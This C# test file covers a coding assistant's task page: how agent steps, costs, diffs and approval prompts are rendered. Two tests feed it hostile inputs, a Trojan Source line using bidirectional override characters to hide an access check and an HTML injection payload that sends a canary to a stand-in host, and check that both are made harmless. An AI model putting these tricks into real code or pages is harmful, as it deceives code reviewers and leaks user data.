using CodeAssist.Core.Agent;
using CodeAssist.Core.Agent.Actions;
using CodeAssist.Core.Agent.Models;
using CodeAssist.Core.Privacy.Characters;
using CodeAssist.Core.Review.Changes;
using CodeAssist.Core.Spending;
using CodeAssist.Server.Features.Delegating;
using CodeAssist.Server.Features.Dialogs;

namespace CodeAssist.Server.Tests.Features.Delegating;

/// <summary>The page of a task shows what happened, and nothing in it is more than text.</summary>
public sealed class TaskPageTests
{
    [Fact]
    public void A_task_is_told_with_steps_cost_checks_and_difference()
    {
        var call = new AgentCall("1", "read_file", "{}") { Action = new AgentAction.Read("a.py", null) };
        TranscriptEntry[] transcript =
        [
            new TranscriptEntry.Chosen("openai/big", "openai/big, as you allowed."),
            new TranscriptEntry.Step(1, "openai/big", "Look.", [new CallRecord(call, CallEnd.Done, "text", ["a.py"]) { Diff = "+of this step", IsAllowed = true }], new ModelSpending(new TokenCounts(1_000, 0, 100), 0.003m)),
            new TranscriptEntry.Errand("Where is add?", "local/small", [new CallRecord(call, CallEnd.Done, "text", [])], "In a.py.", IsFound: true, new ModelSpending(new TokenCounts(500, 0, 20), 0)),
            new TranscriptEntry.Compacted(6, "They read.", "local/small", new ModelSpending(new TokenCounts(300, 0, 30), 0)),
            new TranscriptEntry.Checked(IsSound: true, "npm test"),
        ];

        var page = TaskPage.Of("Make it add.", transcript, new AgentEnd(AgentEndReason.Finished, "It is done."), "Adds.", [new FileDifference("a.py", ChangeKind.Modified, "-a - b\n+a + b")]);

        string[] told =
        [
            "Make it add.", "It is done.", "1,950 tokens, $0.003", "Adds.", "npm test", "-a - b", "as you allowed", "Read a.py", "1,100", "$0.003", "Where is add?", "In a.py. (Read a.py)", "local/small", "520",
            "6 older messages were summed up", "330", "Step 1, Read a.py, as you allowed: what came of it", "<span class=\"removed\">-a - b</span>", "What step 1 changed: a.py", "of this step",
        ];
        Assert.All(told, text => Assert.Contains(text, page, StringComparison.Ordinal));
    }

    [Fact]
    public void A_task_at_work_says_what_it_does()
    {
        var page = TaskPage.Of("Make it add.", [new TranscriptEntry.Chosen("openai/big", "openai/big, as you allowed.")], "Read a.py");

        Assert.All(["Make it add.", "At work: Read a.py.", "as you allowed"], text => Assert.Contains(text, page, StringComparison.Ordinal));
    }

    [Fact]
    public void What_waits_for_a_word_stands_first_with_a_link_for_each_answer()
    {
        using var question = new PageQuestion("Run npm test", "npm test\nin web", ["Allow", "No"], static _ => { });

        var page = TaskPage.Of("Make it add.", [], "Run npm test, as soon as you allow it", question);

        Assert.InRange(page.IndexOf("<h2>Run npm test</h2>", StringComparison.Ordinal), 0, page.IndexOf("<h2>State</h2>", StringComparison.Ordinal));
        Assert.Contains($"<a href=\"command:codeassist.answer?%5B%22{question.Id}%22%2C0%5D\">Allow</a> <a href=\"command:codeassist.answer?%5B%22{question.Id}%22%2C1%5D\">No</a>", page, StringComparison.Ordinal);
        Assert.DoesNotContain("<a ", TaskPage.Of("Make it add.", [], "Run npm test"), StringComparison.Ordinal);
    }

    [Fact]
    public void Case_10_marks_that_turn_the_writing_are_written_out()
    {
        const string Trojan = "+if (role != \"user\u202E \u2066// admins only\u2069 \u2066\") {";
        using var question = new PageQuestion("Change a.js", Trojan, ["Allow"], static _ => { });

        var page = TaskPage.Of("Goal", [], new AgentEnd(AgentEndReason.Finished, "Done."), "", [new FileDifference("a.js", ChangeKind.Modified, Trojan)], question);

        page = System.Net.WebUtility.HtmlDecode(page);
        Assert.Equal(3, page.Split("user[U+202E] [U+2066]// admins only[U+2069] [U+2066]").Length);
        Assert.Empty(HiddenCharacters.Find(page));
    }

    [Fact]
    public void Case_12_what_models_and_files_say_is_text()
    {
        const string Evil = "<img src=https://sink/?d=CANARY><script>evil()</script>";
        var step = new TranscriptEntry.Step(1, Evil, Evil, [new CallRecord(new AgentCall("1", Evil, "{}"), CallEnd.Faulty, Evil, [Evil]) { Diff = Evil }], ModelSpending.None);

        var page = TaskPage.Of(Evil, [step, new TranscriptEntry.Checked(IsSound: false, Evil)], new AgentEnd(AgentEndReason.Stuck, Evil), Evil, [new FileDifference(Evil, ChangeKind.Added, Evil)]);

        using var question = new PageQuestion(Evil, Evil, ["Allow"], static _ => { });
        page += TaskPage.Of(Evil, [], Evil, question);

        Assert.DoesNotContain("<img", page, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", page, StringComparison.Ordinal);
    }
}
